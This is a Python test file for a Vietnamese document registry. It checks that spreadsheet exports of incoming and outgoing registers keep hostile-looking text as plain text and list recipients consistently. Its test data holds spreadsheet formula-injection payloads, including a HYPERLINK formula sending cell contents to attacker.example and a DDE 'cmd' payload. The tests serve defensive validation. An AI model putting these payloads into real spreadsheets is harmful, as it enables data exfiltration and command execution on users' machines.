"""Register exports keep hostile text as text and list "Nơi nhận" alike for every document."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.orm import Session

from outbox import registers
from registry.models import Document, DocumentRecipient
from tests.outbox.conftest import issued_document

HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,2)", "\tTab đầu dòng", "\rCR đầu dòng"]


def _export(rows: list[dict[str, str]]) -> bytes:
    return registers.to_xlsx(title="Sổ đăng ký văn bản đến",
                             columns=registers.INCOMING_COLUMNS, rows=rows)


class TestFormulaEscaping:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_cell_is_text_never_formula(self, text: str) -> None:
        """Sender, subject and recipient starting with = + - @ tab or CR are written as text."""
        data = _export([{"tac_gia": text, "trich_yeu": text, "don_vi_nhan": text}])
        sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and 't="inlineStr"' in sheet
        cell = load_workbook(io.BytesIO(data)).active["C3"]  # type: ignore[index]
        assert cell.value == text and cell.data_type == "s" and cell.quotePrefix

    def test_ordinary_text_is_unchanged(self) -> None:
        """A normal subject keeps its plain style (no quote prefix)."""
        cell = load_workbook(io.BytesIO(_export([{"tac_gia": "Bộ Công an"}]))).active["C3"]  # type: ignore[index]
        assert cell.value == "Bộ Công an" and not cell.quotePrefix


class TestNoiNhanColumn:
    def test_directory_lines_and_spec_lines_print_alike(self, session: Session,
                                                        tmp_path: Path) -> None:
        """Kính gửi lines, Nơi nhận lines and a spec's distribution are listed once each,
        without "Như trên" or the archive line; copies count the archive holders."""
        doc = issued_document(session, tmp_path, recipients=2)
        doc.recipients.append(DocumentRecipient(label="=Sở Tư pháp (b/c)", kind="cc",
                                                position=9))
        session.flush()
        # The spec of an older flow-drafted document, written as it was before issue.
        session.execute(update(Document).where(Document.id == doc.id).values(
            spec={"distribution": ["Như trên (t/h)", "Bộ Công an (b/c);"]}))
        session.refresh(doc)
        assert doc.issuer_id is not None
        [row] = registers.outgoing_rows(session=session, organization_id=doc.issuer_id,
                                        year=2022, reader=None)
        assert row["noi_nhan"].split("\n") == [
            "Công an huyện 1", "Công an huyện 2", "=Sở Tư pháp (b/c)", "Bộ Công an (b/c)"]
        assert (row["ban_luu"], row["so_luong"]) == ("VT, NC", "6")
        data = registers.to_xlsx(title="Sổ đi", columns=registers.OUTGOING_COLUMNS, rows=[row])
        sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
